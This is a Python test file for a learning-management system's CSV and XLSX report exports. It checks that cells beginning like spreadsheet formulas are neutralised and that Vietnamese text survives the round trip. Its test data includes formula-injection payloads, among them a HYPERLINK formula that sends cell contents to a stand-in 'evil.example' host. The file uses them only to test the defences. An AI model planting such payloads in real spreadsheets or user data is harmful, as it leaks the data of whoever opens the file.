"""Report exports: formula cells neutralised, UTF-8 BOM CSV, XLSX that opens with openpyxl.

The file writers (lms/reports/exports.py) are tested directly; the "who is behind" export
is tested through the export endpoint, with people whose names look like formulas."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from flask import url_for
from openpyxl import load_workbook

from lms.courses import services as learning
from lms.db import utcnow
from lms.reports.behind import behind_header
from lms.reports.exports import export_response, neutralise, write_csv, write_xlsx
from tests.conftest import login

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "+1", "-2", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
HEADER = ["Họ và tên", "Số", "Ngày"]


def sample_rows():
    day = date(2025, 6, 30)
    return [
        *[(text, 7, day) for text in FORMULAS],
        ("Nguyễn Thị Hồng Nhung", -2, datetime(2025, 7, 1, 8, 30)),
        ("Đặng Văn Ước", 3.5, None),
    ]


# ---------------------------------------------------------------- neutralise

@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [-2, 1, 0, 3.5, -0.25, None, "Nguyễn Văn Anh", "1637/QĐ-BNG",
                                   "a=b", "", date(2025, 1, 1)])
def test_numbers_dates_and_plain_text_are_left_alone(value):
    assert neutralise(value) == value


# ---------------------------------------------------------------- CSV

def test_csv_starts_with_a_bom_and_round_trips_vietnamese():
    target = io.BytesIO()
    write_csv(target, HEADER, sample_rows())
    data = target.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert table[0] == HEADER
    assert [row[0] for row in table[1:7]] == ["'" + text for text in FORMULAS]
    assert table[7] == ["Nguyễn Thị Hồng Nhung", "-2", "2025-07-01 08:30"]   # a number, unquoted
    assert table[8] == ["Đặng Văn Ước", "3.5", ""]
    assert table[1][2] == "2025-06-30"


def test_csv_number_cells_are_not_prefixed():
    target = io.BytesIO()
    write_csv(target, ["n"], [(-2,), (+1,)])
    assert target.getvalue().decode("utf-8-sig").split() == ["n", "-2", "1"]


# ---------------------------------------------------------------- XLSX

def read_xlsx(data: bytes) -> list[list]:
    book = load_workbook(io.BytesIO(data))
    rows = [[cell.value for cell in row] for row in book.active.iter_rows()]
    types = [[cell.data_type for cell in row] for row in book.active.iter_rows()]
    book.close()
    return rows, types


def test_xlsx_opens_with_the_rows_formulas_neutralised_and_numbers_numeric():
    target = io.BytesIO()
    write_xlsx(target, "Chậm tiến độ: Vụ [HTQT]", HEADER, sample_rows())
    rows, types = read_xlsx(target.getvalue())
    assert rows[0] == HEADER
    # (a carriage return inside a cell reads back as a line feed)
    assert [row[0] for row in rows[1:7]] == ["'" + text.replace("\r", "\n") for text in FORMULAS]
    assert all(t[0] == "s" for t in types[1:])          # text, never a formula ("f")
    assert rows[7][:2] == ["Nguyễn Thị Hồng Nhung", -2] and types[7][1] == "n"
    assert rows[8][:2] == ["Đặng Văn Ước", 3.5]
    assert rows[1][2] == datetime(2025, 6, 30) and rows[7][2] == datetime(2025, 7, 1, 8, 30)
    book = load_workbook(io.BytesIO(target.getvalue()))
    assert book.active.title == "Chậm tiến độ- Vụ -HTQT-"       # sheet names forbid : [ ]
    book.close()


def test_export_response_sends_a_named_download_of_either_kind(app):
    with app.test_request_context():
        for kind, mimetype in (("csv", "text/csv"), ("xlsx", "application/vnd.openxml")):
            with export_response(kind, "HTQT-overdue-2025-06-30", "Sheet", HEADER,
                                 iter(sample_rows())) as response:
                response.direct_passthrough = False
                assert response.mimetype.startswith(mimetype)
                assert f'filename=HTQT-overdue-2025-06-30.{kind}' in response.headers[
                    "Content-Disposition"]
                data = response.get_data()
            if kind == "csv":
                assert data.startswith(b"\xef\xbb\xbf")
            else:
                assert read_xlsx(data)[0][7][0] == "Nguyễn Thị Hồng Nhung"


# ---------------------------------------------------------------- the behind export

@pytest.fixture()
def formula_people(dbs, factory):
    """People whose names look like formulas, all overdue in one course of one department."""
    now = utcnow()
    dept = factory.unit("Vụ Pháp luật", code="PL")
    people = [factory.person(name, unit=dept, code=f"F{i}", position="@Chuyên viên")
              for i, name in enumerate(FORMULAS[:4])]
    people.append(factory.person("Nguyễn Thị Hồng Nhung", unit=dept, code="F9"))
    course = factory.course("Chữ ký số")
    factory.assignment(course, unit=dept, start_at=now - timedelta(days=20),
                       due_at=now - timedelta(days=3))
    learning.complete_lesson(dbs, people[-1], course.modules[0].lessons[0])
    head = factory.unit_head(dept)
    learning.open_lesson(dbs, head, course.modules[0].lessons[0])
    dbs.flush()
    return dept, head


def download(client, unit, kind: str, **args) -> bytes:
    with client.get(url_for("reports.export", unit_id=unit.id, kind=kind, view="behind",
                            **args)) as response:
        assert response.status_code == 200
        return response.data


def test_behind_csv_export_neutralises_formula_names_and_keeps_vietnamese(
        client, dbs, factory, formula_people):
    dept, head = formula_people
    login(client, head.email)
    data = download(client, dept, "csv", list="overdue", sort="name")
    assert data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert table[0] == behind_header()
    names = {row[1] for row in table[1:]}
    # (the head joined after the decision, so their own due date is later: not overdue)
    assert names == {"'" + text for text in FORMULAS[:4]} | {"Nguyễn Thị Hồng Nhung"}
    assert all(row[3] == "'@Chuyên viên" for row in table[1:] if row[0].startswith("F")
               and row[0] != "F9")
    assert {row[6] for row in table[1:]} == {"3"}           # days overdue: a plain number


def test_behind_xlsx_export_has_the_right_rows_with_numbers_as_numbers(
        client, dbs, factory, formula_people):
    dept, head = formula_people
    login(client, head.email)
    rows, types = read_xlsx(download(client, dept, "xlsx", list="overdue", sort="name"))
    assert rows[0] == behind_header()
    body = {row[0]: (row, kinds) for row, kinds in zip(rows[1:], types[1:], strict=True)}
    assert set(body) == {"F0", "F1", "F2", "F3", "F9"}
    for code, text in zip(("F0", "F1", "F2", "F3"), FORMULAS, strict=False):
        row, kinds = body[code]
        assert row[1] == "'" + text and kinds[1] == "s"
        assert row[3] == "'@Chuyên viên"
        assert (row[6], row[7]) == (3, 0) and kinds[6] == kinds[7] == "n"
        assert isinstance(row[5], datetime)                 # the due date, a real date cell
    nhung, kinds = body["F9"]
    assert nhung[1] == "Nguyễn Thị Hồng Nhung" and nhung[7] == 33 and kinds[7] == "n"
    assert isinstance(nhung[8], datetime)                   # last activity, local time
    # The not-started list of the same unit: the two who opened a lesson are not in it.
    rows, _types = read_xlsx(download(client, dept, "xlsx", list="not_started"))
    assert {row[0] for row in rows[1:]} == {"F0", "F1", "F2", "F3"}


def test_behind_export_outside_the_head_scope_is_403(client, dbs, factory, formula_people):
    dept, _head = formula_people
    other = factory.unit("Vụ Lễ tân", code="LT2")
    login(client, factory.unit_head(other).email)
    for kind in ("csv", "xlsx"):
        assert client.get(url_for("reports.export", unit_id=dept.id, kind=kind, view="behind",
                                  list="not_started")).status_code == 403


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_dashboard_and_people_exports_neutralise_formulas_too(client, dbs, factory,
                                                              formula_people, kind):
    dept, head = formula_people
    factory.unit("=1+1 Phòng", parent=dept, code="PL-F", kind="division")
    login(client, head.email)

    def table(view: str) -> list[list]:
        with client.get(url_for("reports.export", unit_id=dept.id, kind=kind, view=view)) as response:
            assert response.status_code == 200
            data = response.data
        if kind == "csv":
            return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        return read_xlsx(data)[0]

    units = {cell for row in table("dashboard")[1:] for cell in row}
    assert "'=1+1 Phòng" in units and "=1+1 Phòng" not in units
    cells = {cell for row in table("people")[1:] for cell in row if isinstance(cell, str)}
    assert {"'" + text for text in FORMULAS[:4]} <= cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
